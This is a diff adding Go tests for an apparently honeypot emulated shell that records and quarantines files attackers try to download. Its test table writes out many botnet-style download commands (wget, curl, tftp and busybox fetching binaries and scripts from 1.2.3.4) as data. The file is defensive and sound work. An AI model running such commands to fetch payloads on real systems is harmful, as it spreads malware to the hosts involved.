@@ -0,0 +1,240 @@
+package shell
+
+import (
+	"bytes"
+	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"zecx-deploy/internal/config"
+	"zecx-deploy/internal/events"
+	"zecx-deploy/internal/fetch"
+	"zecx-deploy/internal/quarantine"
+	"zecx-deploy/internal/transform/emulators/persona"
+	"zecx-deploy/internal/transform/emulators/vfs"
+)
+
+// recorder is a Fetcher that serves body for every request and remembers them.
+type recorder struct {
+	body     []byte
+	requests []fetch.Request
+}
+
+func (r *recorder) Fetch(_ context.Context, req fetch.Request) (*fetch.Result, error) {
+	r.requests = append(r.requests, req)
+	return &fetch.Result{Status: http.StatusOK, Data: r.body}, nil
+}
+
+func newTestShell(t *testing.T, fetcher fetch.Fetcher, samples *quarantine.Store) *Shell {
+	t.Helper()
+	return New(Config{
+		User:    "root",
+		Persona: persona.New(config.Persona{}),
+		FS:      vfs.New(),
+		Session: events.NewSession("ssh", nil, nil),
+		Fetcher: fetcher,
+		Samples: samples,
+	})
+}
+
+// downloads collects the Download events of s published while fn runs.
+func downloads(t *testing.T, s *Shell, fn func()) []*events.Download {
+	t.Helper()
+	sub := events.Subscribe(t.Name(), 64, 0)
+	defer sub.Unsubscribe()
+	fn()
+	var out []*events.Download
+	for {
+		select {
+		case e := <-sub.Events():
+			if d, ok := e.(*events.Download); ok && d.SessionID == s.sess.ID {
+				out = append(out, d)
+			}
+		default:
+			return out
+		}
+	}
+}
+
+func TestDownloadArguments(t *testing.T) {
+	tests := []struct {
+		line      string
+		url       string
+		userAgent string
+		saved     string // file the payload lands in; empty for stdout
+	}{
+		{line: "wget http://1.2.3.4/x86", url: "http://1.2.3.4/x86", userAgent: "Wget/1.21.2", saved: "/root/x86"},
+		{line: "wget -q 1.2.3.4/bins/mips -O /tmp/m", url: "http://1.2.3.4/bins/mips", userAgent: "Wget/1.21.2", saved: "/tmp/m"},
+		{line: "wget -qO- http://1.2.3.4/i.sh", url: "http://1.2.3.4/i.sh", userAgent: "Wget/1.21.2"},
+		{line: "wget -P /tmp --user-agent=x http://1.2.3.4/a", url: "http://1.2.3.4/a", userAgent: "x", saved: "/tmp/a"},
+		{line: "wget -U bot -P /tmp http://1.2.3.4/a", url: "http://1.2.3.4/a", userAgent: "bot", saved: "/tmp/a"},
+		{line: "busybox wget http://1.2.3.4/b", url: "http://1.2.3.4/b", userAgent: "Wget", saved: "/root/b"},
+		{line: "curl http://1.2.3.4/c.sh", url: "http://1.2.3.4/c.sh", userAgent: "curl/7.81.0"},
+		{line: "curl -sSfLo /tmp/c -A bot https://1.2.3.4/c", url: "https://1.2.3.4/c", userAgent: "bot", saved: "/tmp/c"},
+		{line: "curl -O --user-agent=bot http://1.2.3.4/d/e", url: "http://1.2.3.4/d/e", userAgent: "bot", saved: "/root/e"},
+		{line: "curl --output /tmp/f -m 5 http://1.2.3.4/f", url: "http://1.2.3.4/f", userAgent: "curl/7.81.0", saved: "/tmp/f"},
+		{line: "tftp 1.2.3.4 -c get t1", url: "tftp://1.2.3.4/t1", saved: "/root/t1"},
+		{line: "tftp 1.2.3.4 -c get t2 /tmp/t", url: "tftp://1.2.3.4/t2", saved: "/tmp/t"},
+		{line: "tftp -g -r bins/t3 -l /tmp/u 1.2.3.4 6969", url: "tftp://1.2.3.4:6969/bins/t3", saved: "/tmp/u"},
+		{line: "busybox tftp -g -r t4 1.2.3.4", url: "tftp://1.2.3.4/t4", saved: "/root/t4"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.line, func(t *testing.T) {
+			f := &recorder{body: []byte("payload")}
+			s := newTestShell(t, f, nil)
+			s.fs.MkdirAll("/tmp", 0777, "root")
+			var out bytes.Buffer
+			if status := s.Execute(tt.line, &out); status != 0 {
+				t.Fatalf("status %d:\n%s", status, out.String())
+			}
+			if len(f.requests) != 1 {
+				t.Fatalf("%d requests", len(f.requests))
+			}
+			if req := f.requests[0]; req.URL != tt.url || req.UserAgent != tt.userAgent {
+				t.Errorf("request = %+v, want %s with %q", req, tt.url, tt.userAgent)
+			}
+			if tt.saved == "" {
+				if !strings.Contains(out.String(), "payload") {
+					t.Errorf("payload not written to stdout:\n%s", out.String())
+				}
+				return
+			}
+			if data, err := s.fs.ReadFile(tt.saved); err != nil || string(data) != "payload" {
+				t.Errorf("%s = %q, %v", tt.saved, data, err)
+			}
+		})
+	}
+}
+
+func TestWgetKeepsExistingFiles(t *testing.T) {
+	s := newTestShell(t, &recorder{body: []byte("new")}, nil)
+	s.fs.WriteFile("/root/x", []byte("old"), 0644, "root")
+	s.Execute("wget -q http://1.2.3.4/x", &bytes.Buffer{})
+	if data, _ := s.fs.ReadFile("/root/x"); string(data) != "old" {
+		t.Errorf("x = %q", data)
+	}
+	if data, _ := s.fs.ReadFile("/root/x.1"); string(data) != "new" {
+		t.Errorf("x.1 = %q", data)
+	}
+}
+
+func TestDownloadBudget(t *testing.T) {
+	for _, line := range []string{"wget -q http://1.2.3.4/x", "curl -so x http://1.2.3.4/x"} {
+		s := newTestShell(t, &recorder{body: []byte("payload")}, nil)
+		s.fs.SetBudget(4)
+		var out bytes.Buffer
+		if status := s.Execute(line, &out); status == 0 {
+			t.Errorf("%s: succeeded past the budget:\n%s", line, out.String())
+		}
+		if _, err := s.fs.Stat("/root/x"); err == nil {
+			t.Errorf("%s: file written past the budget", line)
+		}
+	}
+	s := newTestShell(t, &recorder{body: []byte("payload")}, nil)
+	s.fs.SetBudget(4)
+	var out bytes.Buffer
+	s.Execute("wget http://1.2.3.4/x", &out)
+	if !strings.Contains(out.String(), "x: No space left on device") {
+		t.Errorf("wget output:\n%s", out.String())
+	}
+}
+
+func TestDownloadEvents(t *testing.T) {
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/big":
+			w.Write(bytes.Repeat([]byte("B"), 100))
+		case "/slow":
+			select {
+			case <-r.Context().Done():
+			case <-time.After(5 * time.Second):
+			}
+		case "/missing":
+			http.NotFound(w, r)
+		default:
+			w.Write([]byte("#!/bin/sh\n"))
+		}
+	}))
+	defer srv.Close()
+	dir := t.TempDir()
+	samples, err := quarantine.Open(dir, 0, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := newTestShell(t, &fetch.Client{MaxSize: 10, Timeout: 100 * time.Millisecond, AllowPrivate: true}, samples)
+
+	t.Run("quarantine", func(t *testing.T) {
+		var out bytes.Buffer
+		evs := downloads(t, s, func() { s.Execute("wget "+srv.URL+"/i.sh", &out) })
+		if len(evs) != 1 {
+			t.Fatalf("%d events", len(evs))
+		}
+		ev := evs[0]
+		sum := sha256.Sum256([]byte("#!/bin/sh\n"))
+		want := hex.EncodeToString(sum[:])
+		if ev.Tool != "wget" || ev.URL != srv.URL+"/i.sh" || ev.Path != "/root/i.sh" || !ev.Fetched ||
+			ev.Status != http.StatusOK || ev.Size != 10 || ev.SHA256 != want || ev.Truncated || ev.Error != "" {
+			t.Errorf("event = %+v", ev)
+		}
+		// Samples are named by their hash alone, whatever the URL called them.
+		if data, err := os.ReadFile(filepath.Join(dir, want)); err != nil || string(data) != "#!/bin/sh\n" {
+			t.Errorf("quarantined sample = %q, %v", data, err)
+		}
+	})
+
+	t.Run("size limit", func(t *testing.T) {
+		evs := downloads(t, s, func() { s.Execute("curl -s -o big "+srv.URL+"/big", &bytes.Buffer{}) })
+		if len(evs) != 1 || !evs[0].Truncated || evs[0].Size != 10 {
+			t.Fatalf("events = %+v", evs)
+		}
+		if data, _ := s.fs.ReadFile("/root/big"); len(data) != 10 {
+			t.Errorf("saved %d bytes", len(data))
+		}
+	})
+
+	t.Run("time limit", func(t *testing.T) {
+		var out bytes.Buffer
+		var status int
+		evs := downloads(t, s, func() { status = s.Execute("wget "+srv.URL+"/slow", &out) })
+		if status != 4 || !strings.Contains(out.String(), "failed: Connection timed out.") {
+			t.Errorf("status %d:\n%s", status, out.String())
+		}
+		if len(evs) != 1 || evs[0].Fetched || evs[0].Error == "" {
+			t.Fatalf("events = %+v", evs)
+		}
+		if _, err := s.fs.Stat("/root/slow"); err == nil {
+			t.Error("failed download left a file")
+		}
+	})
+
+	t.Run("error status", func(t *testing.T) {
+		before, _ := os.ReadDir(dir)
+		evs := downloads(t, s, func() { s.Execute("curl -f "+srv.URL+"/missing", &bytes.Buffer{}) })
+		if len(evs) != 1 || evs[0].Status != http.StatusNotFound || evs[0].SHA256 != "" {
+			t.Fatalf("events = %+v", evs)
+		}
+		if after, _ := os.ReadDir(dir); len(after) != len(before) {
+			t.Error("error page was quarantined")
+		}
+	})
+}
+
+func TestDownloadWithoutFetcher(t *testing.T) {
+	s := newTestShell(t, nil, nil)
+	var out bytes.Buffer
+	evs := downloads(t, s, func() { s.Execute("wget -q http://example.com/bot.x86", &out) })
+	if len(evs) != 1 || evs[0].Fetched || evs[0].URL != "http://example.com/bot.x86" {
+		t.Fatalf("events = %+v", evs)
+	}
+	data, err := s.fs.ReadFile("/root/bot.x86")
+	if err != nil || !bytes.HasPrefix(data, []byte("\x7fELF")) {
+		t.Errorf("stand-in = %d bytes, %v", len(data), err)
+	}
+}